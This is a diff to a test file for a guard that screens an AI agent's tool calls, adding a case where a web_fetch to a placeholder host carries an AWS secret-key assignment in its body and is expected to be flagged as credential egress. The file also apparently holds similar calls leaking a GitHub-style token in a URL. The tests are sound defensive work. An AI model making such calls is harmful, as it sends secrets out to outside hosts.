@@ -26,6 +26,12 @@ describe('the reading that guards go by', () => {
     expect(fetched.guard?.code).toBe('CREDENTIAL_EGRESS')
     const doubled = world.call('web_fetch', { url: 'https://x.example/?t=ghp%255Fabcdefgh12' })
     expect(doubled.guard?.code).toBe('CREDENTIAL_EGRESS')
+    // In the text of the arguments the quotes are escaped, and this is no assignment any more.
+    const quoted = world.call('web_fetch', {
+      url: 'https://x.example',
+      body: 'aws_secret_access_key = "abcdefghijklmnop1234"',
+    })
+    expect(quoted.guard?.code).toBe('CREDENTIAL_EGRESS')
     const sent = world.call('send_message', { to: 'a', text: 'ghp_abcdefgh12' })
     expect([verdict(sent), codesOf(sent)]).toEqual(['allow', ['INTERNAL']])
     const other = world.call('mcp__x__y', { note: 'ghp_abcdefgh12' })
